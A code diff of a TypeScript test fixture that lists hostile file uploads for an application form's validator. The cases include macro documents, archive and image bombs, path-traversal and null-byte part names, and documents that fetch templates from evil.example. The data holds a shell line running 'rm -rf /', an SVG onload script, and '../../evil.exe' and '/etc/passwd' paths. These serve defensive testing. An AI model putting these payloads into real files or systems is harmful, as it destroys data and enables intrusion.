@@ -1,18 +1,11 @@
 import {
-  denseDocx,
   docWithMacros,
-  docxWith,
-  docxOfTypes,
   docxThatFetches,
+  docxWith,
   docxWithMacros,
   docxWithRenamedMacros,
-  jpegOfSize,
-  pngOfSize,
   hugeDocx,
-  lyingDocx,
-  macroEnabledDocx,
-  macroEnabledDocxInUtf16,
-  overlappingDocx,
+  pngOfSize,
 } from '@test/support/badFiles'
 import { docBytes, fileOf, zipBytes } from '@test/support/builders'
 import { type Hostile, APPLICATION_WARNING, application, resume, internship, enquiry } from './request'
@@ -34,6 +27,7 @@ export const PROGRAM = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
 const ELF = Buffer.from('7f454c4602010100', 'hex')
 const SCRIPT = Buffer.from('#!/bin/sh\nrm -rf /\n')
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
+const HUGE = pngOfSize(100_000, 100_000)
 const JAVA = zipBytes({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': 'x' })
 
 const programs: [string, Buffer][] = [
@@ -71,74 +65,22 @@ export const files: Hostile[] = [
     ),
   ),
   application('a drawing as a photo', { photo: fileOf(SVG, 'me.svg') }, PHOTO_WARNING),
-  application('macros by type', { resume: fileOf(macroEnabledDocx(), 'cv.docx') }, macros('cv.docx')),
-  application(
-    'macros by type in UTF-16',
-    { resume: fileOf(macroEnabledDocxInUtf16(), 'cv.docx') },
-    macros('cv.docx'),
-  ),
   resume('macros in a part', { resume: fileOf(docxWithMacros(), 'cv.docx') }, macros('cv.docx')),
   internship('macros in a .doc', { resume: fileOf(docWithMacros(), 'cv.doc') }, macros('cv.doc')),
-  enquiry(
-    'macros in an attachment',
-    { company_attachment: fileOf(docxWithMacros(), 'a.docx') },
-    macros('a.docx'),
-  ),
-  application('a dense archive', { resume: fileOf(denseDocx(), 'cv.docx') }, bomb('cv.docx')),
-  application('an archive of a gigabyte', { resume: fileOf(hugeDocx(), 'cv.docx') }, bomb('cv.docx')),
-  application(
-    'an archive of shared bytes',
-    { resume: fileOf(overlappingDocx(), 'cv.docx') },
-    bomb('cv.docx'),
-  ),
-  application(
-    'an archive that lies about its sizes',
-    { resume: fileOf(lyingDocx(), 'cv.docx') },
-    bomb('cv.docx'),
-  ),
-  internship(
-    'macros in numbers for letters',
-    { resume: fileOf(docxOfTypes('application/vnd.ms-word.document.macro&#69;nabled.main+xml'), 'cv.docx') },
-    macros('cv.docx'),
-  ),
-  application(
-    'a template of the internet',
-    { resume: fileOf(docxThatFetches('attachedTemplate', 'https://evil.example/a.dotm'), 'cv.docx') },
-    remote('cv.docx'),
-  ),
-  enquiry(
-    'an object of the internet',
-    { company_attachment: fileOf(docxThatFetches('oleObject', 'mhtml:http://evil.example/a!x'), 'a.docx') },
-    remote('a.docx'),
-  ),
-  resume(
-    'a path out of the archive',
-    {
-      resume: fileOf(docxWith({ name: '../../evil.exe', content: Buffer.from('x') }), 'cv.docx'),
-    },
-    program('cv.docx'),
-  ),
+  enquiry('macros', { company_attachment: fileOf(docxWithMacros(), 'a.docx') }, macros('a.docx')),
   application(
     'macros under another name',
     { resume: fileOf(docxWithRenamedMacros(), 'cv.docx') },
     macros('cv.docx'),
   ),
+  application('an archive of a gigabyte', { resume: fileOf(hugeDocx(), 'cv.docx') }, bomb('cv.docx')),
+  application('a picture of ten milliard points', { photo: fileOf(HUGE, 'me.png') }, bomb('me.png')),
   application(
-    'a relation to macros',
-    { resume: fileOf(docxThatFetches('vbaProject', 'settings.dat'), 'cv.docx') },
-    macros('cv.docx'),
+    'a template of the internet',
+    { resume: fileOf(docxThatFetches('attachedTemplate', 'https://evil.example/a.dotm'), 'cv.docx') },
+    remote('cv.docx'),
   ),
-  application(
-    'a workbook with macros within',
-    { resume: fileOf(docxWith({ name: 'word/embeddings/a.XLSM', content: SCRIPT }), 'cv.docx') },
-    macros('cv.docx'),
-  ),
-  application(
-    'a program within',
-    { resume: fileOf(docxWith({ name: 'word/embeddings/a.exe', content: PROGRAM }), 'cv.docx') },
-    'cv.docx contains a program or another file. Please save it without that and choose it again.',
-  ),
-  ...['/etc/passwd', 'word/a\0.xml'].map((name) =>
+  ...['../../evil.exe', '/etc/passwd', 'word/a\0.xml'].map((name) =>
     application(
       `a part named ${JSON.stringify(name)}`,
       { resume: fileOf(docxWith({ name, content: SCRIPT }), 'cv.docx') },
@@ -146,31 +88,10 @@ export const files: Hostile[] = [
     ),
   ),
   application(
-    'a picture of ten milliard points',
-    { photo: fileOf(pngOfSize(100_000, 100_000), 'me.png') },
-    bomb('me.png'),
-  ),
-  application(
-    'a photo of four milliard points',
-    { photo: fileOf(jpegOfSize(65_535, 65_535), 'me.jpg') },
-    bomb('me.jpg'),
-  ),
-  application(
     'a resume of one byte too many',
     { resume: fileOf(docBytes(5 * 1024 * 1024 + 1), 'cv.doc') },
     'cv.doc is too large. The limit is 5 MB.',
     413,
   ),
-  application(
-    'a locked archive',
-    { resume: fileOf(docxWith({ name: 'x', content: SCRIPT, says: { flags: 1 } }), 'cv.docx') },
-    program('cv.docx'),
-  ),
   application('an empty resume', { resume: new File([], 'cv.doc') }, 'cv.doc is empty.'),
-  resume(
-    'a resume of six megabytes',
-    { resume: fileOf(docBytes(6_000_000), 'cv.doc') },
-    'cv.doc is too large. The limit is 5 MB.',
-    413,
-  ),
 ]
